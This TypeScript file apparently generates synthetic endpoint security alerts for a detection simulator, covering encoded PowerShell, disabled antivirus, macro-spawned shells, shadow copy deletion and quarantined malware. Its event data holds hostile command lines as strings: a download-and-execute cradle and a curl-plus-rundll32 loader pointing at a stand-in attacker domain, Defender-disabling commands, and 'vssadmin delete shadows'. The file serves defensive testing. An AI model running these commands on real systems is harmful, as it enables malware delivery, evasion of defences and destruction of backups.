import { COMPANY } from '../organisation.ts';
import { type Detection, SENSORS, technique } from './scenario.ts';
import { externalFields, fileFields, onWorkstation, processFields } from './scene-fields.ts';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const EXPLORER = { path: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE', pid: 4820 };

/** Programs that run where they should not. */
export const EXECUTION_SCENARIOS: readonly Detection[] = [
  {
    analytic: 'Suspicious PowerShell',
    detection: 'Encoded Command',
    weight: 10,
    technique: technique('T1059.001', 'Command and Scripting Interpreter: PowerShell', 'execution'),
    category: ['process'],
    type: ['start'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation, attacker }) => {
      const script = `IEX (New-Object Net.WebClient).DownloadString('https://${attacker.domain}/${random.hex(6)}.ps1')`;
      const commandLine = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
      return {
        message: `PowerShell with an encoded command that downloads from ${attacker.domain} on ${workstation.name}`,
        outline: {
          threat: attacker.domain,
          target: workstation.name,
          indicators: [attacker.domain, attacker.ip],
          summary: 'Encoded PowerShell downloads and runs a script',
        },
        score: random.decimal(66, 90),
        severity: 7,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({ path: POWERSHELL, commandLine, pid: random.integer(3000, 19000), parent: EXPLORER }),
          url: { full: `https://${attacker.domain}/`, domain: attacker.domain, scheme: 'https' },
          related: {
            hosts: [workstation.name, attacker.domain],
            user: [workstation.owner.username],
            ip: [workstation.ip],
          },
        },
        raw: {
          EventID: 1,
          Image: POWERSHELL,
          CommandLine: commandLine,
          ParentImage: EXPLORER.path,
          User: `${COMPANY.windowsDomain}\\${workstation.owner.username}`,
        },
      };
    },
  },
  {
    analytic: 'Suspicious PowerShell',
    detection: 'Antimalware Bypass',
    weight: 4,
    technique: technique('T1562.001', 'Impair Defenses: Disable or Modify Tools', 'defenseEvasion'),
    category: ['process', 'malware'],
    type: ['start', 'info'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const commandLine =
        'powershell.exe -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData"';
      return {
        message: `Real-time protection switched off by PowerShell on ${workstation.name}`,
        outline: {
          threat: 'powershell.exe',
          target: workstation.name,
          indicators: ['Set-MpPreference', 'C:\\ProgramData'],
          summary: 'Antimalware disabled, folder excluded',
        },
        score: random.decimal(60, 84),
        severity: 7,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: POWERSHELL,
            commandLine,
            pid: random.integer(3000, 19000),
            parent: { path: CMD, commandLine: 'cmd.exe /c setup.bat', pid: random.integer(900, 2900) },
          }),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: {
          EventID: 4688,
          NewProcessName: POWERSHELL,
          CommandLine: commandLine,
          SubjectUserName: workstation.owner.username,
        },
      };
    },
  },
  {
    analytic: 'Macro Watch',
    detection: 'Office Spawned Shell',
    weight: 7,
    technique: technique('T1204.002', 'User Execution: Malicious File', 'execution'),
    category: ['process', 'file'],
    type: ['start'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation, attacker }) => {
      const { owner } = workstation;
      const document = random.pick([
        'Invoice_88213.docm',
        'Benefits_2026_update.xlsm',
        'RFP_broker_terms.docm',
        'Payment_advice.xls',
      ]);
      const path = `C:\\Users\\${owner.username}\\Downloads\\${document}`;
      const office = document.endsWith('docm') ? 'WINWORD.EXE' : 'EXCEL.EXE';
      const commandLine = `cmd.exe /c curl -s -o %TEMP%\\sync.dll https://${attacker.domain}/s && rundll32 %TEMP%\\sync.dll,Start`;
      return {
        message: `${office} opened ${document} and started cmd.exe on ${workstation.name}`,
        outline: {
          threat: document,
          target: workstation.name,
          indicators: [document, attacker.domain, attacker.ip],
          summary: 'Macro starts a shell that loads a library',
        },
        score: random.decimal(74, 95),
        severity: 8,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: CMD,
            commandLine,
            pid: random.integer(3000, 19000),
            parent: {
              path: `C:\\Program Files\\Microsoft Office\\root\\Office16\\${office}`,
              commandLine: `"${office}" "${path}"`,
              pid: random.integer(2000, 12000),
            },
          }),
          file: fileFields(path, random.integer(48_000, 410_000)),
          related: { hosts: [workstation.name, attacker.domain], user: [owner.username], ip: [attacker.ip] },
        },
        raw: { EventID: 1, Image: CMD, CommandLine: commandLine, ParentImage: office, OriginalFile: path },
      };
    },
  },
  {
    analytic: 'Ransomware Tripwire',
    detection: 'Shadow Copies Deleted',
    weight: 2,
    technique: technique('T1490', 'Inhibit System Recovery', 'impact'),
    category: ['process'],
    type: ['deletion'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const commandLine = 'vssadmin.exe delete shadows /all /quiet';
      return {
        message: `All shadow copies deleted on ${workstation.name}`,
        outline: {
          threat: 'vssadmin.exe',
          target: workstation.name,
          indicators: [commandLine],
          summary: 'Backups removed, as ransomware does first',
        },
        score: random.decimal(88, 99),
        severity: 10,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: 'C:\\Windows\\System32\\vssadmin.exe',
            commandLine,
            pid: random.integer(3000, 19000),
            parent: {
              path: POWERSHELL,
              commandLine: 'powershell.exe -ep bypass -file C:\\Users\\Public\\u.ps1',
              pid: random.integer(900, 2900),
            },
          }),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: { EventID: 1, Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: commandLine },
      };
    },
  },
  {
    analytic: 'Bad Guy Finder',
    detection: 'Known Malicious File',
    weight: 6,
    technique: technique('T1204.002', 'User Execution: Malicious File', 'execution'),
    category: ['malware', 'file'],
    type: ['info', 'creation'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation, attacker }) => {
      const family = random.pick(['Lumma Stealer', 'AsyncRAT', 'Remcos', 'FormBook']);
      const name = random.pick(['setup_pdf_reader.exe', 'Statement_Oct.iso', 'teams-codec.msi', 'quote_4471.js']);
      const path = `C:\\Users\\${workstation.owner.username}\\Downloads\\${name}`;
      const file = fileFields(path, random.integer(90_000, 6_400_000));
      return {
        message: `${name} on ${workstation.name} is known as ${family}, quarantined`,
        outline: {
          threat: family,
          target: workstation.name,
          indicators: [name, attacker.domain],
          summary: `${family} downloaded and quarantined`,
        },
        score: random.decimal(42, 76),
        severity: 6,
        action: 'file-quarantined',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          file,
          source: externalFields(attacker, 443),
          assemblyline: { antivirus: [{ type: 'AV', value: family, verdict: 'malicious' }] },
          threat: { software: { name: family, type: 'Malware' } },
          related: {
            hosts: [workstation.name, attacker.domain],
            user: [workstation.owner.username],
            ip: [attacker.ip],
          },
        },
        raw: { event: 'quarantine', path, detection: family, url: `https://${attacker.domain}/dl/${name}` },
      };
    },
  },
];
